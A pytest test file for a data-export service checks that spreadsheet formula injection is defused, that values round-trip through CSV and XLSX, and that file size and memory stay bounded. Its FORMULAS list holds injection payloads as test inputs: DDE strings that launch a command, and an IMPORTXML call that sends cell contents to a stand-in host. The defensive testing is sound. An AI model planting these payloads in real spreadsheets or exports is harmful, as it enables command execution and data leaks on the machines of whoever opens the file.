"""Files of lines: formulas defused and given back, the limits of a sheet told, memory bounded."""

import csv
import io
import tracemalloc
import zipfile
from collections.abc import Iterator
from pathlib import Path
from xml.etree import ElementTree as ET

import pyarrow as pa
import pytest
from hypothesis import given
from hypothesis import strategies as st

from ombudsman.studio.errors import ExportTooLarge
from ombudsman.studio.services import export_files
from ombudsman.studio.services.export_cells import defused, quoted, restored
from ombudsman.studio.services.export_files import Format, Target, write_lines

SCHEMA = pa.schema([pa.field("key", pa.string()), pa.field("value", pa.string())])
FORMS: tuple[Format, ...] = ("csv", "xlsx", "parquet", "json")

FORMULAS = [
    *("=1+1", "=cmd|' /C calc'!A0", "@SUM(1+1)", "+1+cmd|'/C calc'!A0", "-2+3+cmd|'/C calc'!A0"),
    *("\t=1", "\r=1", " =1", "  @x", "\n=1", "\u00a0=1", "＝1+1", "＋1", "－1+1", "＠x"),
    *('=HYPERLINK("http://x.example")', "=1;=2", "-", "+", "=", "@", "+49 662 1000", "-1-1", "=-1"),
    *('=IMPORTXML(CONCAT("http://x.example", A1), "//a")', "=DDE()", "\u3000=1", "\v=1", "\f@x"),
    *("-0x1F", "+-1", "--1", "-1e", "1\t=2"[1:], "@", "=\x00", "-1 ", "+1,5"),
]
HARMLESS = [
    *("1", "-1", "-1.50", "+1.5", "1e-7", "-1E+10", "Huber", "a=b", "2024-01-01", "", " "),
    *("x@example.com", "1-1", "C-3", "http://x.example", "ä"),
]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_is_defused(text: str):
    assert defused(text) == "'" + text


@pytest.mark.parametrize("text", HARMLESS)
def test_what_is_none_stays(text: str):
    assert defused(text) == text


@given(st.text())
def test_every_text_comes_back(text: str):
    assert restored(defused(text)) == text


@given(st.lists(st.text(st.characters(exclude_categories=["Cs"])) | st.none(), min_size=2))
def test_a_line_of_csv_is_read_as_it_was(texts: list[str | None]):
    line = ",".join(map(quoted, texts)) + "\r\n"
    (read,) = csv.reader(io.StringIO(line, newline=""))
    assert [restored(each) for each in read] == [each or "" for each in texts]


def test_null_and_the_empty_text_are_told_apart():
    assert (quoted(None), quoted("")) == ("", '""')


def target(folder: Path, most: int = 2**30) -> Target:
    return Target((folder / "file").open("w+b"), folder, {"run": "=1+1", "reason": "\ud800"}, most)


def batches(*lines: tuple[str | None, str | None]) -> Iterator[pa.RecordBatch]:
    for line in lines:
        yield pa.RecordBatch.from_arrays(
            [pa.array([each], pa.string()) for each in line], schema=SCHEMA
        )


def made(form: Format, folder: Path, content: Iterator[pa.RecordBatch], most: int = 2**30) -> bytes:
    where = target(folder, most)
    with where.file:
        write_lines(form, where, content, SCHEMA)
        where.file.seek(0)
        return where.file.read()


def parts(book: bytes) -> dict[str, ET.Element]:
    with zipfile.ZipFile(io.BytesIO(book)) as pack:
        return {
            name: ET.fromstring(pack.read(name))  # noqa: S314 - we wrote it
            for name in pack.namelist()
            if name.endswith(".xml")
        }


def test_no_text_becomes_a_formula_or_a_link_in_a_workbook(tmp_path: Path):
    texts = [*FORMULAS, *HARMLESS, "\x01\x1f_x0041_", "mailto:x@example.com", "internal:A1"]
    book = made("xlsx", tmp_path, batches(*((text, text) for text in texts)))
    for name, tree in parts(book).items():
        tags = {each.tag.rpartition("}")[2] for each in tree.iter()}
        assert not tags & {"f", "hyperlink", "hyperlinks"}, name
    sheet = parts(book)["xl/worksheets/sheet1.xml"]
    kinds = {each.attrib["t"] for each in sheet.iter() if each.tag.endswith("}c")}
    assert kinds == {"inlineStr"}


def test_a_workbook_tells_what_it_had_no_room_for(tmp_path: Path, monkeypatch: pytest.MonkeyPatch):
    monkeypatch.setattr(export_files, "SHEET_LINES", 2)
    long = "x" * 40_000
    book = made("xlsx", tmp_path, batches(("1", long), ("2", None), ("3", "lost"), ("4", "lost")))
    sheets = parts(book)
    lines = "".join(sheets["xl/worksheets/sheet1.xml"].itertext())
    assert "lost" not in lines
    assert "x [...]" in lines
    about = "".join(sheets["xl/worksheets/sheet2.xml"].itertext())
    assert "2 of 4" in about
    assert "2 lines, for a sheet has no more" in about
    assert "1 texts of more than 32,767 letters" in about


@pytest.mark.parametrize("form", FORMS)
def test_a_file_of_no_lines_is_a_file(form: Format, tmp_path: Path):
    assert made(form, tmp_path, batches())


@pytest.mark.parametrize("form", FORMS)
def test_a_file_that_grows_too_large_is_given_up_early(form: Format, tmp_path: Path):
    given = 0

    def endless() -> Iterator[pa.RecordBatch]:
        nonlocal given
        while True:
            given += 1
            yield from batches((str(given), "x" * 1_000))

    with pytest.raises(ExportTooLarge):
        made(form, tmp_path, endless(), most=100_000)
    assert given < 200


@pytest.mark.parametrize("form", FORMS)
def test_memory_does_not_grow_with_the_lines(form: Format, tmp_path: Path):
    batch = pa.RecordBatch.from_arrays(
        [pa.array([f"{n}" for n in range(1_000)]), pa.array(["x" * 200] * 1_000)], schema=SCHEMA
    )

    def peak(times: int) -> int:
        folder = tmp_path / str(times)
        folder.mkdir()
        where = target(folder)
        tracemalloc.start()
        with where.file:
            write_lines(form, where, (batch for _ in range(times)), SCHEMA)
        _, most = tracemalloc.get_traced_memory()
        tracemalloc.stop()
        return most

    peak(1)
    assert peak(12) < 2 * peak(3) + 200_000
